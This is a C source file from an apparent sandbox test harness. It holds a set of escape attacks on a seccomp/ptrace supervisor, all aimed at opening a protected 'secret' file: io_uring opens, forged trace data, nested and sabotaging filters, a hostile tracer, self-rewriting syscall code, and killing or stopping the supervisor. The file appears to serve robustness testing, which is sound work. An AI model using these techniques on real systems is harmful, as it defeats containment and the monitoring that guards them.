// SPDX-License-Identifier: Apache-2.0
// Attacks between check and use by what the kernel lets a program set up: filters,
// listeners, tracers, rings, code that changes, and a supervisor that dies.
#include "toctou.h"

#include <linux/io_uring.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <ucontext.h>

static void call(char *page)
{
	for (int i = 0; i < 20 && more(); i++)
		open_path(page);
}

// What a child with a filter or tracer of its own does.
static void attempts(char *page)
{
	beside(flip, page);
	call(page);
	_exit(0); // with its threads
}

// ---- a ring ---------------------------------------------------------------------------

struct queue {
	char *submission, *completion;
	struct io_uring_params params;
	int fd;
};

static char *map_ring(const struct queue *q, size_t size, off_t offset)
{
	return mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, q->fd, offset);
}

// Opens "secret" by a ring, which no seccomp filter sees.
static void open_by_ring(struct queue *q)
{
	struct io_uring_sqe *entry = (void *)map_ring(q, PAGE, IORING_OFF_SQES);
	struct io_uring_cqe *done;

	q->submission = map_ring(q, PAGE, IORING_OFF_SQ_RING);
	q->completion = map_ring(q, PAGE, IORING_OFF_CQ_RING);
	*entry = (struct io_uring_sqe){ .opcode = IORING_OP_OPENAT, .fd = AT_FDCWD,
					.addr = (uintptr_t)words[SECRET], .open_flags = O_RDONLY };
	*(unsigned *)(q->submission + q->params.sq_off.array) = 0;
	atomic_store((atomic_uint *)(q->submission + q->params.sq_off.tail), 1);
	syscall(SYS_io_uring_enter, q->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
	done = (void *)(q->completion + q->params.cq_off.cqes);
	judge(done->res);
}

// io_uring.
static void by_ring(void)
{
	while (more()) {
		struct queue q = { 0 };

		tally->attempts++;
		q.fd = syscall(SYS_io_uring_setup, 1, &q.params);
		if (tally->supervisor)
			must("io_uring_setup", q.fd);
		if (q.fd >= 0)
			open_by_ring(&q);
		close(q.fd);
	}
}

// ---- filters of one's own ---------------------------------------------------------------

static int put_filter(struct sock_filter *code, size_t size, unsigned int flags)
{
	struct sock_fprog prog = { size / sizeof(*code), code };

	return syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags, &prog);
}

// The data of RET_TRACE that a supervisor may use, or not.
static const unsigned int forged[] = { 0x5043, 0, 1, 2, 3, 0x5042, 0x5044, 0x7e57, 0x8000, 0xffff };

static unsigned int forging;

static void forge(char *page)
{
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 0),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 3, 0),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_access, 2, 0),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getppid, 1, 0),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_TRACE | forging),
	};

	must("seccomp", put_filter(code, sizeof(code), 0));
	syscall(SYS_getppid);
	syscall(SYS_access, page, F_OK);
	attempts(page);
}

// A filter of its own that answers RET_TRACE, as the supervisor's does.
static void forged_trace(void)
{
	char *p = own_page();

	for (size_t i = 0; more(); i++) {
		forging = forged[i % (sizeof(forged) / sizeof(*forged))];
		waitpid(child(forge, p), NULL, 0);
	}
}

static const unsigned int actions[] = {
	SECCOMP_RET_TRAP, SECCOMP_RET_ERRNO, SECCOMP_RET_ERRNO | ENOENT, SECCOMP_RET_TRACE | 0x5043,
	SECCOMP_RET_TRACE, SECCOMP_RET_USER_NOTIF, SECCOMP_RET_KILL_THREAD, SECCOMP_RET_KILL_PROCESS,
	SECCOMP_RET_LOG,
};

static unsigned int acting;

// After a trap the call is made again.
static void again(int sig, siginfo_t *info, void *context)
{
	greg_t *r = ((ucontext_t *)context)->uc_mcontext.gregs;

	(void)sig;
	if (more()) {
		tally->attempts++;
		r[REG_RIP] -= 2;
		r[REG_RAX] = info->si_syscall;
	}
}

// Only the redirected call has an argument from there.
static void disagree(char *page)
{
	struct area slots;

	do { // who was denied has none
		open_path(page);
		slots = look_for_slots();
	} while (!tally->supervisor && !slots.start && more());
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 0),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 0, 5),
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[1]) + 4),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, (uintptr_t)slots.start >> 32, 0, 3),
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[1])),
		BPF_JUMP(BPF_JMP | BPF_JGE | BPF_K, (uint32_t)(uintptr_t)slots.start, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, acting),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sigaction sa = { .sa_sigaction = again, .sa_flags = SA_SIGINFO | SA_NODEFER };

	sigaction(SIGSYS, &sa, NULL);
	must("seccomp", put_filter(code, sizeof(code), 0));
	call(page);
}

// A filter of its own that disagrees as soon as the call is redirected.
static void nested_filter(void)
{
	char *p = shared_page();

	open_path(p);
	find_slots();
	beside(flip, p);
	for (size_t i = 0; more(); i++) {
		acting = actions[i % (sizeof(actions) / sizeof(*actions))];
		waitpid(child(disagree, p), NULL, 0);
	}
}

// What a defender may have a thread do that is about to call: among the calls that it
// makes itself, a filter of its own denies one, or claims to have made it.
static const long needed[] = { SYS_mmap, SYS_close, SYS_madvise, 462 /* mseal */, 236 /* vserver */, SYS_poll };

static const unsigned int lies[] = {
	SECCOMP_RET_ERRNO, SECCOMP_RET_ERRNO | EPERM, SECCOMP_RET_ERRNO | EEXIST, SECCOMP_RET_ERRNO | 7,
	SECCOMP_RET_TRAP, SECCOMP_RET_TRACE, SECCOMP_RET_TRACE | 0x5043, SECCOMP_RET_USER_NOTIF, SECCOMP_RET_KILL_THREAD,
};

static long lied;

static void lie(char *page)
{
	must("seccomp", install(0, lied, acting));
	call(page);
}

// Until what is allowed is there, so who flips it has not been asleep all along.
static void await_flip(const char *page)
{
	while (more() && *(volatile const uint64_t *)page != *(uint64_t *)words[SAFE])
		sched_yield();
}

// A filter of its own that gets in the way of the defender.
static void sabotage(void)
{
	enum { CALLS = sizeof(needed) / sizeof(*needed), LIES = sizeof(lies) / sizeof(*lies) };
	char *p = shared_page();

	beside(flip, p);
	for (size_t i = 0; more(); i++) {
		lied = needed[i % CALLS];
		acting = lies[i / CALLS % LIES];
		await_flip(p);
		waitpid(child(lie, p), NULL, 0);
	}
}

// ---- a tracer of one's own ------------------------------------------------------------------

static void traced(char *page)
{
	ptrace(PTRACE_TRACEME, 0, 0, 0);
	ptrace(PTRACE_SEIZE, getppid(), 0, PTRACE_O_TRACESECCOMP);
	ptrace(PTRACE_ATTACH, getppid(), 0, 0);
	attempts(page);
}

// Handles the stops of a child that could be seized, and changes what it stopped in.
static void trace(pid_t pid, char *page)
{
	int status;

	while (waitpid(pid, &status, __WALL) == pid && !WIFEXITED(status) && !WIFSIGNALED(status)) {
		int sig = status >> 16 ? 0 : WSTOPSIG(status);

		ptrace(PTRACE_POKEDATA, pid, page, *(uint64_t *)words[SECRET]);
		ptrace(PTRACE_CONT, pid, 0, sig == SIGTRAP || sig == SIGSTOP ? 0 : sig);
	}
}

// PTRACE_TRACEME, PTRACE_SEIZE and PTRACE_ATTACH. A SIGCHLD would stop this process, once
// its child traces it, while the child is stopped too: they would wait for each other.
static void by_tracer(void)
{
	char *p = own_page();
	sigset_t end;

	sigemptyset(&end);
	sigaddset(&end, SIGCHLD);
	sigprocmask(SIG_BLOCK, &end, NULL);
	while (more()) {
		pid_t pid = child(traced, p);

		ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESECCOMP | PTRACE_O_EXITKILL);
		ptrace(PTRACE_INTERRUPT, pid, 0, 0);
		trace(pid, p);
	}
}

// ---- code ---------------------------------------------------------------------------------

static unsigned char *code;
static int at; // of the syscall instruction

static const unsigned char text[] = {
	0x48, 0x89, 0xf8,		// mov %rdi, %rax
	0x48, 0x89, 0xf7,		// mov %rsi, %rdi
	0x48, 0x89, 0xd6,		// mov %rdx, %rsi
	0x48, 0x89, 0xca,		// mov %rcx, %rdx
	0x0f, 0x05,			// syscall
	0xc3,				// ret
};

static const uint16_t instructions[] = { 0x9090 /* nop, nop */, 0x050f /* syscall */, 0xc031 /* xor %eax, %eax */ };

static void rewrite(char *page)
{
	for (size_t i = 0; i < 3; i++) {
		*(volatile uint16_t *)(code + at) = instructions[i];
		store(page, SECRET);
		*(volatile uint16_t *)(code + at) = instructions[1];
		dawdle(5);
		store(page, SAFE);
		dawdle(5);
	}
}

// The first call of a process is the one that the supervisor makes more of.
static void rewritten(char *page)
{
	long (*make)(long, ...) = (void *)code;

	beside(rewrite, page);
	for (int i = 0; i < 10 && more(); i++) {
		long fd;

		tally->attempts++;
		fd = make(SYS_openat, AT_FDCWD, page, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
		if (fd > 2 && fd != SYS_openat)
			judge(fd);
	}
	_exit(0);
}

// The instruction that makes the call changes while the call is made.
static void rewrite_code(void)
{
	char *p = own_page();

	code = mmap(NULL, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	must("mmap", code == MAP_FAILED ? -1 : 0);
	memcpy(code, text, sizeof(text));
	at = sizeof(text) - 3;
	while (more())
		waitpid(child(rewritten, p), NULL, 0);
}

// ---- without the supervisor -------------------------------------------------------------------

static atomic_int listener;

static void *let_everything_go(void *unused)
{
	struct seccomp_notif notif;

	while (listener < 0)
		sched_yield();
	for (;;) {
		notif = (struct seccomp_notif){ 0 };
		if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &notif) == 0)
			ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND,
			      &(struct seccomp_notif_resp){ .id = notif.id, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE });
	}
	return unused;
}

// Kills the supervisor, listens itself, and lets everything go on.
static void own_listener(void)
{
	pid_t victim = tally->supervisor ? tally->supervisor : getppid();
	struct pollfd end = { must("pidfd_open", syscall(SYS_pidfd_open, victim, 0)), POLLIN, 0 };
	pthread_t thread;

	listener = -1;
	pthread_create(&thread, NULL, let_everything_go, NULL);
	open_path(words[SECRET]);
	say_score("");
	must("kill", kill(victim, SIGKILL));
	poll(&end, 1, -1);
	listener = install(SECCOMP_FILTER_FLAG_NEW_LISTENER, SYS_openat, SECCOMP_RET_USER_NOTIF);
	if (listener < 0)
		install(0, SYS_openat, SECCOMP_RET_TRACE | 0x5043);
	while (more())
		open_path(words[SECRET]);
	say_score("");
	_exit(0); // with its thread
}

static void stop_supervisor(char *unused)
{
	pid_t victim = tally->supervisor;

	(void)unused;
	kill(victim, SIGSTOP);
	dawdle(300);
	kill(victim, SIGCONT);
	dawdle(300);
}

// Stops the supervisor, again and again.
static void stopped_supervisor(void)
{
	char *p = own_page();

	if (!tally->supervisor)
		tally->supervisor = getppid();
	beside(flip, p);
	apart(stop_supervisor, NULL);
	open_until_over(p);
	finish();
	kill(tally->supervisor, SIGCONT);
}

const struct attack door_attacks[] = {
	{ "ring", by_ring },
	{ "forged-trace", forged_trace },
	{ "nested-filter", nested_filter },
	{ "sabotage", sabotage },
	{ "tracer", by_tracer },
	{ "rewritten-code", rewrite_code },
	{ "own-listener", own_listener },
	{ "stopped-supervisor", stopped_supervisor },
	{ NULL, NULL },
};
